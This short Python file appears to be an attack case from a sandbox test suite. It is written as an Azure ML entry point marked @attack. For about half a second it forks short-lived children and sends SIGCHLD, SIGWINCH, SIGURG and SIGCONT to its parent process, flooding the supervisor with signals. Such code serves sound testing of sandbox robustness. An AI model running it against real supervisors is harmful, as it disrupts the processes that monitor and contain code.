"""Sends its supervisor signals without end, and children that end, so that it hears nothing else."""

import os
import signal

from attack import attack, forked, until


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    above = os.getppid()
    for _ in until(0.5):
        forked(lambda: None)
        for number in (signal.SIGCHLD, signal.SIGWINCH, signal.SIGURG, signal.SIGCONT):
            os.kill(above, number)
    return ""
